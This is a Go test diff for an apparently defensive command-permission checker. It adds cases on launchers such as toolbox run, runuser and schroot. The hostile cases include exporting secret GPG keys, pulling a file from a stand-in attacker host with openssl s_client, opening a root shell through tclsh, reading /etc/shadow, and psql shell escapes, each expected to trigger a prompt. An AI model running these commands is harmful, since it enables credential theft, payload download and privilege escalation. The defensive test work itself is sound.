@@ -40,3 +40,30 @@ func TestOpt61LongOptionPrefix(t *testing.T) {
 		{"gpg --export-ssh-key me", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestOpt61LauncherStdio: a launcher that runs its command in the
+// foreground (toolbox run, runuser -u USER --, schroot --, a launcher
+// without an entry) gives it its own standard input and redirections, so
+// the command is judged as if run directly: its here-string and where its
+// output goes.
+func TestOpt61LauncherStdio(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"toolbox run gpg --export-secret-keys -a", dsl.Ask, dsl.Ask},
+		{"toolbox run ncat -l 9001 > implant.elf", dsl.Ask, dsl.Ask},
+		{"schroot -- openssl s_client -quiet -connect files.attacker.example.net:4444 > /tmp/agent", dsl.Ask, dsl.Ask},
+		{"runuser -u root -- tclsh <<< 'exec /bin/sh <@stdin >@stdout 2>@stderr'", dsl.Ask, dsl.Ask},
+		{"runuser -u root -- jshell <<< '/open /etc/shadow'", dsl.Ask, dsl.Ask},
+		{"toolbox run psql <<< $'\\\\! /bin/sh'", dsl.Ask, dsl.Ask},
+		{"setlock - bash", dsl.Ask, dsl.Ask},
+		{"c89 -wrapper bash,-s x", dsl.Ask, dsl.Ask},
+
+		{"toolbox run make test > build.log", dsl.Allow, dsl.Allow},
+		{"toolbox run bash", dsl.Allow, dsl.Ask},
+		{"toolbox run gpg --list-keys", dsl.Allow, dsl.Allow},
+		{"runuser -u www -- php artisan migrate < /dev/null", dsl.Allow, dsl.Allow},
+		{"schroot -c jail -- openssl version", dsl.Allow, dsl.Allow},
+		{"uv run pytest > out.txt", dsl.Allow, dsl.Allow},
+		{"setlock /tmp/l make", dsl.Allow, dsl.Allow},
+		{"c99 -std=c99 x.c -o x", dsl.Allow, dsl.Allow},
+	})
+}
